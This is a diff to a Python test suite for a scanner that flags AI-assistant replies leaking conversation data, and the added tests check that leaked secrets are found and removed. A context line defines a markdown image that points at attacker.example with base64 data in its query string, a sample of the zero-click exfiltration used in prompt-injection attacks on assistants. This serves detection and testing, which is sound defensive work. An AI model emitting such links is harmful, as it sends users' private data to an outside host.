@@ -22,6 +22,8 @@ ROOT = Path(__file__).parent.parent
 TRANSCRIPTS = ROOT / "fixtures" / "transcripts"
 BAD = Path(__file__).parent / "data" / "scan"
 IMG = "![x](https://attacker.example/p.png?d=SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ=)"
+# Replies that leak a piece of the conversation raw: only the messages before them say so.
+LEAKS = TRANSCRIPTS / "conversation-leaks.jsonl"
 
 
 def cli(*args: str, stdin: str = "") -> tuple[int, str, str]:
@@ -39,13 +41,13 @@ def labels() -> dict[str, str]:
 def test_every_attack_flagged_and_no_honest_one() -> None:
     report = scan([str(TRANSCRIPTS)], ScanOptions())
     assert report.errors == []
-    assert report.summary.files == 5
+    assert report.summary.files == 6
     flagged = {(row.path, row.record_id) for row in report.findings}
     label = labels()
     for path, record in flagged:
         number = record.split("-")[-1] if "-" in record else None
-        if path.endswith("reply.md"):
-            continue
+        if path.endswith(("reply.md", LEAKS.name)):
+            continue  # one reply; the leaks file is checked below
         assert number is not None, (path, record)
         assert label[number] != "honest", (path, record)
     attacks = {n for n, kind in label.items() if kind != "honest"}
@@ -57,9 +59,30 @@ def test_every_attack_flagged_and_no_honest_one() -> None:
 def test_main_job_command() -> None:
     code, out, err = cli("scan", str(TRANSCRIPTS))
     assert code == 1
-    assert out.startswith("files 5 (0 with errors), records 66")
+    assert out.startswith("files 6 (0 with errors), records 74")
     assert "by reason" in out
     assert err == ""  # no progress bar when stderr is not a terminal
+
+
+def test_replies_judged_with_the_messages_before_them() -> None:
+    rows = [json.loads(line) for line in LEAKS.read_text().splitlines()]
+    report = scan([str(LEAKS)], ScanOptions())
+    assert report.errors == []
+    flagged = {row.record_id for row in report.findings}
+    assert flagged == {row["id"] for row in rows if row["label"] == "attack"}
+    # the user's own URL repeated, their own address as mailto:, an article slug with the
+    # words of the question, a token that only later appears in the conversation: none
+    assert {row.reasons for row in report.findings} == {("conversation_data",)}
+    assert report.summary.by_reason == {"conversation_data": len(report.findings)}
+    assert {row.role for row in report.findings} == {"assistant"}
+
+
+def test_the_fixed_leaks_are_clean_and_every_message_else_kept(tmp_path: Path) -> None:
+    scan([str(LEAKS)], ScanOptions(fix_dir=tmp_path))
+    fixed = (tmp_path / LEAKS.name).read_text()
+    for secret in ("orchid7731plum", "dana.whitfield@acme-health.example", "hx42vq9tz7"):
+        assert fixed.count(secret) == LEAKS.read_text().count(secret) - 1  # only the reply's
+    assert scan([str(tmp_path)], ScanOptions()).summary.findings == 0
 
 
 def test_fix_mirrors_the_tree_and_changes_only_the_text(tmp_path: Path) -> None:
